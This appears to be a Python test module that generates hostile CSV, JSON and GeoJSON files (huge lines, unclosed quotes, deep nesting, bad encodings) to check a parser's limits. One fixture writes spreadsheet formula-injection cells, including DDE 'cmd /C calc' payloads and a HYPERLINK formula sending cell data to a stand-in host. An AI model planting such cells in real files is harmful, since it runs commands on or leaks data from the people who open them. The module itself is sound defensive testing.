"""Delimited text and JSON that trick, swell or never end."""

import json
from pathlib import Path

from tests.hostile.bomb import FINE, STOP, bomb

MIB = 1 << 20


def spread(path: Path, before: bytes, filling: bytes, times: int, after: bytes = b"") -> None:
    """Write something again and again, without holding it."""
    block = filling * max(1, MIB // len(filling))
    with path.open("wb") as file:
        file.write(before)
        left = times * len(filling)
        while left > 0:
            file.write(block[:left])
            left -= len(block)
        file.write(after)


@bomb("one-line.csv", STOP)
def a_line_of_a_gigabyte(path: Path, *, full: bool) -> None:
    spread(path, b"", b"a", (1024 if full else 40) * MIB)


@bomb("one-row.csv", STOP)
def a_row_of_a_gigabyte_below_a_header(path: Path, *, full: bool) -> None:
    spread(path, b"a,b\n1,", b"x", (1024 if full else 40) * MIB, b"\n")


@bomb("one-cell.csv", STOP)
def a_quoted_cell_of_a_gigabyte(path: Path, *, full: bool) -> None:
    spread(path, b'a,b\n1,"', b"line\n", (200 if full else 8) * MIB, b'"\n')


@bomb("never-closed.csv", STOP)
def a_quotation_mark_that_is_never_closed(path: Path, *, full: bool) -> None:
    spread(path, b'a,b\n1,"', b"1,2\n", (256 if full else 4) * MIB)


@bomb("columns.csv", STOP)
def a_million_columns(path: Path, *, full: bool) -> None:
    count = 20_000_000 if full else 1_000_000
    path.write_bytes(b",".join(b"%d" % n for n in range(count)) + b"\n" + b"," * (count - 1))


@bomb("delimiters.csv", STOP)
def nothing_but_delimiters(path: Path, *, full: bool) -> None:
    spread(path, b"", b",", (256 if full else 8) * MIB)


@bomb("quotes.csv", STOP)
def a_million_quotation_marks(path: Path, *, full: bool) -> None:
    spread(path, b"a,b\n", b'"', (64 if full else 1) * MIB + 1)


@bomb("quote-comma.csv", STOP)
def marks_by_which_searches_go_back_and_forth(path: Path, *, full: bool) -> None:
    spread(path, b'a,b\n"', b'"",""x', (64 if full else 1) * MIB)


@bomb("blanks.csv", STOP)
def blanks_and_line_ends(path: Path, *, full: bool) -> None:
    spread(path, b"", b" \r", (64 if full else 2) * MIB)


@bomb("titles.csv", STOP)
def titles_without_a_table(path: Path, *, full: bool) -> None:
    spread(path, b"", b"judul\n\n", (16 if full else 1) * MIB // 7, b",,\n")


@bomb("returns.csv", FINE)
def line_ends_of_every_kind(path: Path, *, full: bool) -> None:
    spread(path, b"a,b\n", b"1,2\r1,2\r\n1,2\n\r", (64 if full else 1) * MIB // 14)


@bomb("comments.html.csv", STOP)
def comments_before_a_page(path: Path, *, full: bool) -> None:
    spread(path, b"", b"<!-- - -- ->", (64 if full else 2) * MIB // 12)


@bomb("marks.csv", STOP)
def marks_of_every_encoding(path: Path, *, full: bool) -> None:  # noqa: ARG001
    path.write_bytes(b"\xef\xbb\xbf\xff\xfe\xfe\xff\x00\x00\xfe\xff" + b"a,b\n1,2\n")


@bomb("half-a-letter.csv", STOP)
def utf_16_with_a_byte_left_over(path: Path, *, full: bool) -> None:  # noqa: ARG001
    path.write_bytes(b"\xff\xfe" + "a,b\n1,\ud800\n".encode("utf-16-le", "surrogatepass") + b"x")


@bomb("utf-32.csv", STOP)
def utf_32_beyond_its_letters(path: Path, *, full: bool) -> None:  # noqa: ARG001
    path.write_bytes(b"\xff\xfe\x00\x00" + b"a\0\0\0\n\0\0\0" + b"\xff\xff\xff\xff")


@bomb("overlong.csv", STOP)
def letters_written_longer_than_they_are(path: Path, *, full: bool) -> None:  # noqa: ARG001
    path.write_bytes(b"a,b\n\xc0\xaf,\xe0\x80\xaf\n\xed\xa0\x80,\xf4\x90\x80\x80\n\xff,\xfe\n")


@bomb("nul.csv", STOP)
def nul_as_far_as_the_eye_sees(path: Path, *, full: bool) -> None:
    with path.open("wb") as file:
        file.truncate((2048 if full else 64) * MIB)


@bomb("empty.csv", STOP)
def no_bytes(path: Path, *, full: bool) -> None:  # noqa: ARG001
    path.write_bytes(b"")


@bomb("formulas.csv", FINE)
def cells_that_spreadsheets_would_run(path: Path, *, full: bool) -> None:  # noqa: ARG001
    cells = (
        "=cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1+cmd|x",
        "-2+3+cmd|x",
        "\t=1+1",
        '=HYPERLINK(""https://contoh.example/?""&A1)',
        "=DDE(1;2;3)",
        "=WEBSERVICE(1)",
    )
    path.write_text("kode,isi\n" + "".join(f'{n},"{cell}"\n' for n, cell in enumerate(cells)))


@bomb("letters.csv", FINE)
def letters_that_turn_round_and_pile_up(path: Path, *, full: bool) -> None:
    piled = "a" + "\u0301" * (1_000_000 if full else 50_000)
    cells = (
        "\u202eedoc\u202c",
        "\ufdfa" * 500,
        "\u0130\u0131\u017f\u212a",
        "٣٤٥",
        "\u2028\u2029\x85",
        "👩‍👩‍👧‍👦" * 99,
        piled,
    )
    path.write_text("a,b\n" + "".join(f'{n},"{cell}"\n' for n, cell in enumerate(cells)), "utf-8")


@bomb("codes.csv", FINE)
def thousands_of_columns_that_may_be_parts_of_a_number(path: Path, *, full: bool) -> None:
    columns, rows = (4_000, 5_000) if full else (300, 40)
    header = ",".join(f"c{n}" for n in range(columns))
    row = ",".join(f"35{n % 90 + 10}" for n in range(columns))
    path.write_text("\n".join((header, *[row] * rows)) + "\n")


@bomb("deep.json", STOP)
def a_hundred_thousand_levels(path: Path, *, full: bool) -> None:
    spread(path, b'[{"a":', b"[", 50_000_000 if full else 100_000)


@bomb("deep-objects.json", STOP)
def objects_in_objects(path: Path, *, full: bool) -> None:
    spread(path, b"", b'{"a":', 10_000_000 if full else 100_000)


@bomb("far-number.json", FINE)
def a_number_beyond_all_numbers(path: Path, *, full: bool) -> None:  # noqa: ARG001
    path.write_text('[{"a": 1e999999999}, {"a": -1E-999999999}, {"a": 1}]')


@bomb("long-number.json", STOP)
def a_number_of_millions_of_digits(path: Path, *, full: bool) -> None:
    spread(path, b'[{"a": ', b"9", (64 if full else 6) * MIB, b"}]")


@bomb("long-key.json", STOP)
def a_name_of_megabytes(path: Path, *, full: bool) -> None:
    spread(path, b'[{"', b"k", (64 if full else 4) * MIB, b'": 1}]')


@bomb("many-keys.json", STOP)
def a_million_names(path: Path, *, full: bool) -> None:
    path.write_text(json.dumps([{f"k{n}": 1 for n in range(1_000_000 if full else 200_000)}]))


@bomb("other-keys.json", STOP)
def other_names_in_every_row(path: Path, *, full: bool) -> None:
    path.write_text(json.dumps([{f"k{n}": 1} for n in range(1_000_000 if full else 100_000)]))


@bomb("never-ends.json", STOP)
def a_text_that_never_ends(path: Path, *, full: bool) -> None:
    spread(path, b'[{"a": "', b"x", (1024 if full else 40) * MIB)


@bomb("no-values.json", STOP)
def a_list_of_nothing(path: Path, *, full: bool) -> None:
    spread(path, b"[", b"[],", (64 if full else 1) * MIB // 3, b"[]]")


@bomb("escapes.json", STOP)
def nul_and_half_letters_in_escapes(path: Path, *, full: bool) -> None:
    spread(path, b'[{"a": "', b"\\u0000\\ud800", (16 if full else 1) * MIB // 12, b'"}]')


@bomb("twice.json", STOP)
def a_name_that_stands_twice(path: Path, *, full: bool) -> None:  # noqa: ARG001
    path.write_text('[{"n": 1, "n": 1000000}]')


@bomb("columns.json", STOP)
def columns_of_different_length(path: Path, *, full: bool) -> None:
    lists = ",".join(f'"k{n}":[{"1," * (n % 7)}1]' for n in range(15_000 if full else 3000))
    path.write_text("{" + lists + "}")


@bomb("names.geojson", STOP)
def a_map_whose_places_never_end(path: Path, *, full: bool) -> None:
    head = b'{"type":"FeatureCollection","features":[{"type":"Feature","properties":{},"geometry":'
    spread(path, head, b'{"type":"GeometryCollection","geometries":[', 500_000 if full else 20_000)
